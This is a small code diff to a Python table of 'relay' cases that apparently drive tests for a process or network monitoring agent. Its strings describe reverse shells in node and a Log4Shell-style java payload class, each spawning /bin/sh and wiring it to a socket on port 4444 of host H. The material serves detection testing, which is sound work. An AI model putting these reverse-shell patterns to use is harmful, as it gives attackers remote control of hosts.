@@ -380,7 +380,7 @@ RELAYS = {
              "/usr/bin/ruby", "/usr/bin/ruby3.1", ["ruby", "/tmp/.x/relay.rb"], True, "pipe"),
     "node": ("node: sh = child_process.spawn('/bin/sh', []) first, then client.connect(4444, H, () =>"
              " { client.pipe(sh.stdin); sh.stdout.pipe(client) }); libuv gives the child an AF_UNIX"
-             " socketpair, not a pipe (the live enricher resolves pipes only: replay coverage)",
+             " socketpair, not a pipe (the agent finds its other end through sock_diag)",
              "/usr/bin/node", "/usr/bin/node", ["node", "-e", "(function(){...})()"], False, "unixSocket"),
     "java": ("java (Log4Shell-style payload class): Runtime.getRuntime().exec('/bin/sh') first, then"
              " new Socket(H, 4444) and two stream-pump threads",
